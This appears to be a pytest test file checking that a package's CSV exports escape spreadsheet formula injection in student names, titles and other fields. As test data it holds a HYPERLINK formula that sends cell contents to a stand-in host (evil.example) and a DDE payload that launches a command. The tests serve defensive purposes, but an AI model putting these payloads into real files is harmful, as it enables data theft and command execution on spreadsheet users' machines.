"""Every CSV trustkit writes escapes cells that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import pytest

from trustkit.csvsafe import FORMULA_STARTS, safe_cell, safe_row

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff20"])
def test_formula_starts_get_an_apostrophe(start: str) -> None:
    assert safe_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_text_numbers_and_empty_cells() -> None:
    assert safe_cell("Okafor") == "Okafor"
    assert safe_cell(" =1") == " =1"  # a leading space is not a formula
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"  # a bool is text, not a number
    # numbers stay numbers, also as plain decimal text: a negative number is not a formula
    assert safe_cell(-2.5) == -2.5 and safe_cell(-3) == -3
    for text in ("-0.50", "+3", "-1e-3", "-.5", "12"):
        assert safe_cell(text) == text
    # ...but only plain ASCII numbers: anything more is escaped
    for text in ("-1+2", "-2-3", "-1 ", "-\uff11", "+A1"):
        assert safe_cell(text) == "'" + text
    assert safe_row(["=x", 1, None]) == ["'=x", 1, ""]


def _class_data():
    from trustkit.grading.report import ClassData

    data = ClassData("ps1")
    data.students = {EVIL: (3.0, 5.0), "@SUM(1+1)*cmd|' /C calc'!A0": (5.0, 5.0), "b": (1.0, 5.0)}
    data.questions = {"ps1:t1": [(1.0, 2.0), (2.0, 2.0)]}
    data.skills = {EVIL: {"empathy": 40.0}, "b": {"empathy": 70.0}}
    data.ratings_gap = {EVIL: 0.5, "b": 1.25}
    data.rating_bias = {EVIL: -0.5, "b": 1.25}
    return data


def test_class_report_scores_csv_escapes_student_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from trustkit.grading import report

    monkeypatch.setattr(report, "collect", lambda *a, **k: _class_data())
    page = report.write_report(tmp_path / "course", "ps1", tmp_path / "out")
    assert page.exists()
    rows = _rows(tmp_path / "out" / "scores.csv")
    assert rows[0][:5] == ["student", "score", "max_score", "rating_gap", "rating_bias"]
    cells = [c for r in rows for c in r]
    assert not any(c.startswith(FORMULA_STARTS) and not c[1:2].isdigit() for c in cells), cells
    students = {r[0]: r for r in rows[1:]}
    assert "'" + EVIL in students
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in students
    # a negative bias stays a number the spreadsheet can sum
    assert students["'" + EVIL][4] == "-0.50" and float(students["b"][4]) == 1.25


def test_progress_export_escapes_text_and_keeps_numbers(tmp_path: Path) -> None:
    from trustkit.debrief import debrief
    from trustkit.engine import play
    from trustkit.progress import History

    from .conftest import MINI, MINI_GOOD

    enc = play(str(MINI), MINI_GOOD)
    d = dataclasses.replace(debrief(enc), title="-2+3 =cmd")
    h = History(tmp_path / "p.sqlite")
    assert h.record_attempt(d, transcript=enc.transcript(), source="@hub") == 1
    assert h.export_csv(tmp_path / "a.csv") == 1
    header, row = _rows(tmp_path / "a.csv")
    got = dict(zip(header, row, strict=True))
    assert got["title"] == "'-2+3 =cmd" and got["source"] == "'@hub"
    assert float(got["trust_end"]) == pytest.approx(63.0)


def test_every_csv_row_trustkit_writes_goes_through_safe_row() -> None:
    """A new CSV writer that forgets the rule fails here, before a spreadsheet runs a name."""
    import re

    from .conftest import ROOT

    calls = []
    for path in sorted((ROOT / "trustkit").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        for match in re.finditer(r"\.writerows?\(\s*", text):
            line = text.count("\n", 0, match.start()) + 1
            calls.append((f"{path.relative_to(ROOT)}:{line}", text[match.end() :]))
    assert len(calls) >= 3  # progress export, scores.csv (header and rows), lms
    unsafe = [where for where, rest in calls if not rest.startswith("safe_row(")]
    assert not unsafe, f"write CSV rows through trustkit.csvsafe.safe_row: {unsafe}"
